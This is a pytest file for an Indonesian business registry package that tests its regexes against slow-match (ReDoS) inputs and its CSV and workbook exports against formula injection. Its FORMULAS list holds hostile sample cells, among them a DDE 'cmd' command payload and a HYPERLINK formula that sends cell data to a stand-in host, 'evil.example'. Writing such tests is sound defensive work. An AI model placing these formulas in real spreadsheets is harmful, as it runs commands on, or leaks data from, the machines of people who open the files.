"""Cells and words that are meant to keep a processor busy, and texts that a spreadsheet would run as a formula."""

import csv
import datetime
import importlib
import io
import pkgutil
import re
import time
import zipfile

import openpyxl
import pytest

import desaekspor
from desaekspor.analytics.errors import EngineMissing
from desaekspor.regions.places import packaged_resolver
from desaekspor.registry.importers import SOURCES, propose_mapping
from desaekspor.registry.importers.check import check_rows
from desaekspor.registry.importers.plans import LONGEST_JUDGED
from desaekspor.registry.importers.reading import BadFile, open_table
from desaekspor.registry.outputs import RowsFile, neutral

BOUND = 600
SIGNS = [
    "0", " ", "a", "-", ".", "(", "A ", "1.", "1,", "Rp ", "00-", "<", "\n", "\t ", "é", "/", "1/", "RT 1 ", "+62", "=", "a1",
    "_-",     '"', "'", "kp. ", "%", "\\", "[", "&#", "{{", "@", "1e", "juta ", "\u200b", "\u0301",
]  # fmt: skip


def endless(sign, length):
    yield sign * (length // len(sign))
    yield sign * (length // len(sign)) + "!"
    yield "x" + sign * (length // len(sign)) + "y"


def patterns():
    """Every compiled pattern that a module of ours keeps, by name."""
    found = {}
    for module in pkgutil.walk_packages(desaekspor.__path__, "desaekspor."):
        if not re.search(r"\.(?:migrations|__main__|wsgi|commands)\b", module.name):
            try:
                names = vars(importlib.import_module(module.name))
            except EngineMissing:  # Spark is an extra
                continue
            for name, thing in names.items():
                if isinstance(thing, re.Pattern):
                    found.setdefault((thing.pattern, thing.flags), (f"{module.name}.{name}", thing))
    return found.values()


def test_no_pattern_takes_long_for_a_cell_that_is_judged():
    assert LONGEST_JUDGED <= BOUND
    slow = []
    for name, pattern in patterns():
        for sign in SIGNS:
            for text in endless(sign, BOUND):
                given = text.encode() if isinstance(pattern.pattern, bytes) else text
                began = time.thread_time()
                pattern.search(given)
                pattern.fullmatch(given)
                if (took := time.thread_time() - began) > 0.1:
                    slow.append((name, sign, took))

    assert slow == []


@pytest.mark.parametrize("source", SOURCES)
def test_a_row_of_endless_cells_is_judged_at_once(source):
    source = SOURCES[source]
    headings = [column.name for column in source.columns]
    lines = [[text for _ in headings] for sign in SIGNS for text in endless(sign, 8_000)]
    file = io.StringIO()
    csv.writer(file).writerows([headings, *lines])
    table = open_table(io.BytesIO(file.getvalue().encode()), "x.csv")
    mapping = propose_mapping(source, table.headings)

    began = time.thread_time()
    rows = list(check_rows(table, source, mapping, packaged_resolver(), today=datetime.date(2026, 11, 24)))

    assert time.thread_time() - began < 30, "a hundred rows; each used to take minutes"
    assert len(rows) > 90


def test_signs_that_are_digits_and_no_numbers_are_texts():
    for digits in ("²", "①", "1" * 5_000):
        rows = f"Nama Usaha,Nama Pemilik,Desa,Kecamatan\n1,{digits},3,4\nWARUNG,WAWAN CONTOH,SRIAMUR,TAMBUN UTARA\n"
        assert len(list(open_table(io.BytesIO(rows.encode()), "x.csv").rows())) == 2


def test_sixteen_thousand_headings_of_one_name_are_counted_at_once():
    began = time.thread_time()
    with pytest.raises(BadFile):
        open_table(
            io.BytesIO(("Nama Usaha,Desa,Kecamatan" + ",x" * 16_000 + "\nWARUNG,SRIAMUR,TAMBUN UTARA\n").encode()), "x.csv"
        )

    assert time.thread_time() - began < 10


def test_a_long_text_is_said_to_be_as_long_as_it_is():
    source = SOURCES["dinas"]
    table = open_table(
        io.BytesIO(b"Nama Usaha,Nama Pemilik,Desa,Kecamatan\n" + b"W" * 5_000 + b",WAWAN CONTOH,SRIAMUR,TAMBUN UTARA\n"), "x"
    )
    [row] = check_rows(
        table, source, propose_mapping(source, table.headings), packaged_resolver(), today=datetime.date(2026, 11, 24)
    )

    assert [finding.facts["length"] for finding in row.findings if finding.code == "text_too_long"] == [5_000]
    assert len(row.raw[0]) == 5_000


FORMULAS = [
    "=1+1", "+1+1", "-1+1", "@SUM(1)",
    "=cmd|' /C calc'!A0", '=HYPERLINK("http://evil.example?"&A1,"klik")',
    "\t=1+1", "\r=1+1", "\n=1+1",
    " =1+1", "|calc", "%0A=1", "＝1+1", "Warung;=1+1;x", "Warung;@SUM(1)",
    "Warung\t=1+1", "Warung\n=1+1", "Warung\r\n+cmd|x!A0", "a; =1+1",
    "Warung;-1+cmd|x",
]  # fmt: skip
HARMLESS = [
    "-6,25",
    "+62 812-0000-0000",
    "Kp. Baru; RT 01",
    "a-b",
    "3 + 4",
    "x=1",
    "Jl. Raya 1;2;3",
    "-",
    "+62 21;0812",
    "Susu @ 5000",
    "",
]


@pytest.mark.parametrize("text", FORMULAS)
@pytest.mark.parametrize("delimiter", [",", ";", "\t"])
def test_no_cell_of_a_csv_is_a_formula_however_it_is_parted(text, delimiter):
    file = io.StringIO()
    csv.writer(file).writerow(["1", neutral(text), "x"])
    as_rows = csv.reader(io.StringIO(file.getvalue(), newline=""), delimiter=delimiter)
    as_lines = csv.reader(file.getvalue().splitlines(), delimiter=delimiter, quoting=csv.QUOTE_NONE)
    for reader in (as_rows, as_lines):
        for cells in reader:
            assert [cell for cell in cells if re.match(r"[\s\"]*[=@＝＠|%]|[\s\"]*[+\-](?![\d\s.,()\-]*$)", cell)] == []


@pytest.mark.parametrize("text", HARMLESS)
def test_what_is_no_formula_stays_as_it_is(text):
    assert neutral(text) == text


@pytest.mark.parametrize("ending", [".csv", ".xlsx"])
def test_files_that_go_out_hold_texts_only(tmp_path, ending):
    path = tmp_path / f"keluar{ending}"
    with RowsFile(path, ["nilai"]) as out:
        for text in FORMULAS:
            out.write([text])

    if ending == ".csv":
        with path.open(encoding="utf-8", newline="") as file:
            assert [row for row in csv.reader(file) if re.match(r"[=@+\-]", row[0])] == []
    else:
        no_formula_in(path.read_bytes())
        assert openpyxl.load_workbook(path).active["A2"].value == "=1+1"


def no_formula_in(content):
    """A workbook runs what stands in <f>, and follows what its relations name outside."""
    with zipfile.ZipFile(io.BytesIO(content)) as package:
        for name in package.namelist():
            part = package.read(name)
            assert not (name.startswith("xl/worksheets/") and re.search(rb"<f[ >]", part)), name
            assert b'TargetMode="External"' not in part, name
            assert "externalLink" not in name


@pytest.mark.django_db
def test_the_workbook_to_correct_holds_texts_only(client):
    from desaekspor.jobs.progress import Progress
    from desaekspor.registry.models import ImportBatch
    from desaekspor.registry.services.batches import receive_upload
    from desaekspor.registry.services.checking import check_batch
    from tests.factories import make_officer

    officer = make_officer("32.16")
    headings = ["id_data_badan_usaha", "nama_usaha", "nama_desa", "nama_kecamatan", "nama_kabkota", "produk_utama"]
    file = io.StringIO()
    csv.writer(file).writerows(
        [headings, *([number, text, "=Tidak Ada", "+Entah", "BEKASI", text] for number, text in enumerate(FORMULAS))]
    )
    batch = receive_upload(io.BytesIO(file.getvalue().encode()), name="=1+1.csv", by=officer, region=officer.region)
    check_batch(batch, Progress.silent())
    client.force_login(officer)

    answer = client.get(f"/impor/{batch.pk}/perbaiki.xlsx")

    content = b"".join(answer.streaming_content)
    assert ImportBatch.objects.get().counts["rejected"] > 10
    no_formula_in(content)
    assert "=1+1" in str(list(openpyxl.load_workbook(io.BytesIO(content)).worksheets[0].values))
